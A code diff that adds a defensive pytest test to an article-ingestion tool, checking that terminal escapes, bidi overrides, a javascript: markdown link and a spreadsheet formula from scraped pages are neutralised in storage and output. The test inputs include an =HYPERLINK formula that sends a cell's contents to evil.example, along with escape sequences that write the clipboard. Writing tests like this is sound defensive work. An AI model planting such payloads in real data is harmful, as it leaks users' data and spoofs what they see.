@@ -5,6 +5,8 @@ source is stored, and that the next run still finds the source's new articles.""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import threading
 import time
@@ -272,3 +274,67 @@ def test_one_server_is_one_server_however_its_host_is_spelled(
     main(["ingest"])
     assert peak[0] == 1
     assert len(stored()) >= 8  # localhost may resolve to ::1 first, where nothing listens
+
+
+ESCAPES = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b]8;;http://evil.example/\x07"
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"open")'
+
+
+def test_what_the_web_wrote_is_printed_exported_and_stored_harmless(
+    site, warehouse, tmp_path, monkeypatch, capsys
+):
+    """Escapes, bidi overrides and a formula in a title and author; a U+0008 and an &#27; in
+    paragraphs; a markdown link in an HTTP reason phrase."""
+    author = f'<meta name="author" content="Ann\u202eEvil {ESCAPES}">'
+    stray = "<p>A stray \x08 backspace and an &#27; escape sit in this paragraph of the story.</p>"
+    title = f"{FORMULA} Flood\u202e{ESCAPES.replace(chr(7), '')}"
+    site.route("/a/0", response(article(0, head=author, title=title, extra=stray)))
+    site.route("/a/1", response(article(1, extra=stray)))
+    reason = "[click here](javascript:alert(1))"
+    site.route("/a/2", response("no", f"503 {reason}"))
+    serve_feed(site, [site.url(f"/a/{n}") for n in range(3)])
+    source = {"id": "escapes", "kind": "feed", "base_url": site.base_url, "feed_url": "/feed.xml"}
+    configure(tmp_path, monkeypatch, source)
+
+    main(["ingest"])
+    assert stored() == {site.url("/a/0"), site.url("/a/1")}  # not no_content
+    for text, stored_title, stored_author in rows("SELECT text, title, author FROM articles"):
+        assert "backspace" in text and not set(text) & {"\x08", "\x1b"}
+        assert not set(stored_title + (stored_author or "")) & {"\x1b", "\x07", "\u202e"}
+    capsys.readouterr()
+
+    main(["sql", "SELECT title FROM articles WHERE title LIKE '%HYPERLINK%'", "--format", "csv"])
+    [header, [cell]] = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    assert cell.startswith("'=HYPERLINK(")
+    main(["sql", f"SELECT '{reason}' AS r", "--format", "markdown"])
+    assert "\\[click here\\]\\(javascript" in capsys.readouterr().out
+    for command in (
+        ["show", site.url("/a/0")],
+        ["search", "Flood"],
+        ["frontier", "--failures"],
+        ["sql", "SELECT title, author FROM articles"],
+    ):
+        main(command)
+        out = capsys.readouterr()
+        assert out.out.strip(), command
+        assert not set(out.out + out.err) & {"\x1b", "\x07", "\x9b", "\u202e"}, command
+    [(run_id,)] = rows("SELECT DISTINCT run_id FROM fetch_log")
+    assert "[click here](" not in _summary_artifact(run_id)
+
+
+def _summary_artifact(run_id: str) -> str:
+    from prefect.client.orchestration import get_client
+    from prefect.client.schemas.filters import (
+        ArtifactFilter,
+        ArtifactFilterFlowRunId,
+        ArtifactFilterKey,
+    )
+
+    with get_client(sync_client=True) as client:
+        [artifact] = client.read_artifacts(
+            artifact_filter=ArtifactFilter(
+                flow_run_id=ArtifactFilterFlowRunId(any_=[run_id]),
+                key=ArtifactFilterKey(any_=["ingest-summary"]),
+            )
+        )
+    return artifact.data
